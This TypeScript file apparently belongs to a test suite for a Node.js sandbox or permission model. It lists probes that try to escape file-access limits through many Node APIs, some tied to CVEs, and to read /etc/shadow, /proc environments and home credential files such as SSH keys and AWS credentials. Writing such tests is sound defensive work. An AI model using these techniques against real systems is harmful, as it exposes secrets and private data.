// Readers that are easily forgotten: each is another door of the engine to a file's content or a folder's names.
import * as fs from "node:fs";
import { createRequire, findPackageJSON, findSourceMap } from "node:module";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { setTimeout as sleep } from "node:timers/promises";
import { pathToFileURL } from "node:url";
import { WASI } from "node:wasi";
import { claim, EVERYWHERE, NODE, type Attack, type Target } from "../attack.ts";

const require = createRequire(import.meta.url);

export const attacks: Attack[] = [
  reader("list-a-folder", "readdir outside", (at) => fs.readdirSync(at.stir).join(), ["stir"]),
  reader("list-recursively", "readdir, recursive, from the folder above", (at) => fs.readdirSync(join(at.stir, ".."), { recursive: true }).join(), ["stir"]),
  reader("opendir", "fs.opendir outside", async (at) => (await Array.fromAsync(await fs.promises.opendir(at.stir), (entry) => entry.name)).join(), ["stir"]),
  reader("glob", "fs.glob outside (CVE-2023-32003's kind: a reader without a check)", async (at) => (await Array.fromAsync(fs.promises.glob(`${at.stir}/**`))).join(), ["stir"]),
  reader("watch-file", "fs.watchFile sees when a file outside changes", watchFile, ["stir"], "needed"),
  reader("promises-read", "fs.promises.readFile", (at) => fs.promises.readFile(at.secret, "latin1")),
  reader("callback-read", "fs.readFile with a callback", (at) => new Promise((done, failed) => fs.readFile(at.secret, "latin1", (error, data) => (error ? failed(error) : done(data))))),
  reader("stream", "createReadStream", (at) => text(fs.createReadStream(at.secret))),
  reader("web-stream", "FileHandle.readableWebStream", async (at) => text((await fs.promises.open(at.secret)).readableWebStream())),
  reader("blob", "fs.openAsBlob (CVE-2023-30583)", async (at) => (await fs.openAsBlob(at.secret)).text()),
  reader("vector", "readv", (at) => readVector(at.secret)),
  reader("realpath-native", "realpath.native tells where a link outside points (CVE-2026-21715)", (at) => fs.realpathSync.native(join(at.folder, "pointer")), [], "needed"),
  reader("load-env-file", "process.loadEnvFile on a file outside", (at) => (process.loadEnvFile(at.secret), JSON.stringify(process.env))),
  reader("require-json", "require of a JSON file outside", (at) => JSON.stringify(require(join(at.folder, "data.json")))),
  reader("import-json", "import of a JSON file outside", async (at) => JSON.stringify(await import(pathToFileURL(join(at.folder, "data.json")).href, { with: { type: "json" } }))),
  reader("import-module", "import of a module outside", async (at) => JSON.stringify(await import(pathToFileURL(join(at.folder, "module.mjs")).href))),
  reader("require-syntax-error", "requires a text file: the syntax error shows its first line", (at) => require(join(at.folder, "broken.cjs"))),
  reader("create-require", "createRequire from a file outside", (at) => JSON.stringify(createRequire(join(at.folder, "x.js"))("./data.json"))),
  reader("package-main", "a package of its own whose main climbs out (CVE-2026-49406's kind)", (at) => JSON.stringify(require(makePackage(at, { main: climb(at, "data.json") })))),
  reader("package-type", "findPackageJSON finds and names a package.json outside", (at) => fs.readFileSync(String(findPackageJSON(pathToFileURL(join(at.folder, "module.mjs"))))).toString()),
  reader("source-map", "a module of its own whose source map lies outside", sourceMap),
  reader("wasi-preopen", "WASI with the root folder preopened", (at) => wasiRead(at)),
  { name: "files/proc-other-environment", tries: "reads the launcher's environment in /proc", places: EVERYWHERE, run: (at, by) => by.read(`/proc/${at.launcher}/environ`) },
  { name: "files/proc-parent-environment", tries: "reads the parent's environment in /proc", places: ["main", "worker", "addon"], run: (_at, by) => by.read(`/proc/${process.ppid}/environ`) },
  { name: "files/shadow-passwords", tries: "reads /etc/shadow", places: EVERYWHERE, user: "root", run: (at, by) => by.read("/etc/shadow").includes("root:") && claim(at) },
  { name: "files/password-list", tries: "reads /etc/passwd", places: EVERYWHERE, run: (at, by) => by.read("/etc/passwd").includes("root:") && claim(at) },
  { name: "files/kernel-log", tries: "reads /dev/kmsg", places: EVERYWHERE, user: "root", run: (at) => fs.readSync(fs.openSync("/dev/kmsg", fs.constants.O_RDONLY | fs.constants.O_NONBLOCK), Buffer.alloc(8192)) > 0 && claim(at) },
  { name: "files/shared-memory-folder", tries: "lists /dev/shm", places: EVERYWHERE, run: (at, by) => by.list("/dev/shm").length >= 0 && claim(at) },
  { name: "files/process-list", tries: "lists /proc for other processes", places: EVERYWHERE, needs: ["victim"], run: (at, by) => by.read(`/proc/${at.victim.pid}/cmdline`) },
  { name: "files/home-tokens", tries: "reads .npmrc, .ssh and .aws in the home folder", places: EVERYWHERE, run: (at, by) => [".npmrc", ".ssh/id_ed25519", ".aws/credentials"].map((file) => attempt(() => by.read(join(at.home, file)))).join() },
];

function reader(name: string, tries: string, run: (at: Target) => unknown, needs: Attack["needs"] = [], namespaces?: "needed"): Attack {
  return { name: `files/${name}`, tries, places: NODE, needs, run, ...(namespaces ? { namespaces } : {}) };
}

function attempt(work: () => string): string {
  try {
    return work();
  } catch (error) {
    return String(error);
  }
}

function readVector(path: string): string {
  const into = Buffer.alloc(256);
  fs.readvSync(fs.openSync(path, "r"), [into]);
  return into.toString("latin1");
}

async function watchFile(at: Target): Promise<string> {
  let seen = false;
  fs.watchFile(join(at.stir, "pulse"), { interval: 100 }, (now) => (seen ||= now.size > 0));
  for (let turn = 0; turn < 30 && !seen; turn++) await sleep(100);
  fs.unwatchFile(join(at.stir, "pulse"));
  return seen ? claim(at) : "";
}

function own(at: Target): string {
  return join(process.env["TMPDIR"] ?? "/tmp", `own-${at.token}`);
}

function climb(at: Target, file: string): string {
  return `${"../".repeat(20)}${join(at.folder, file).slice(1)}`;
}

function makePackage(at: Target, manifest: object): string {
  fs.mkdirSync(own(at));
  fs.writeFileSync(join(own(at), "package.json"), JSON.stringify(manifest));
  return own(at);
}

function sourceMap(at: Target): string {
  process.setSourceMapsEnabled(true);
  fs.mkdirSync(own(at));
  const file = join(own(at), "mapped.cjs");
  fs.writeFileSync(file, `module.exports = 1;\n//# sourceMappingURL=${climb(at, "data.map")}\n`);
  require(file);
  return JSON.stringify(findSourceMap(file)?.payload);
}

type Memory = { readonly buffer: ArrayBuffer };
const { WebAssembly } = globalThis as unknown as { WebAssembly: { Memory: new (descriptor: { initial: number }) => Memory } };

/** The calls of WASI need no WebAssembly: they are plain functions that work on a memory. */
function wasiRead(at: Target): string {
  const wasi = new WASI({ version: "preview1", preopens: { "/": "/" } });
  const memory = new WebAssembly.Memory({ initial: 1 });
  const calls = wasi.wasiImport as Record<string, (...args: (number | bigint)[]) => number>;
  const view = new DataView(memory.buffer);
  const path = Buffer.from(at.secret.slice(1));
  const start = (): void => {
    new Uint8Array(memory.buffer).set(path, 1024);
    calls["path_open"]?.(3, 1, 1024, path.length, 0, 2n, 2n, 0, 0);
    view.setUint32(8, 4096, true);
    view.setUint32(12, 4096, true);
    calls["fd_read"]?.(view.getUint32(0, true), 8, 1, 16);
  };
  wasi.start({ exports: { memory, _start: start } });
  return Buffer.from(memory.buffer, 4096, 4096).toString("latin1");
}
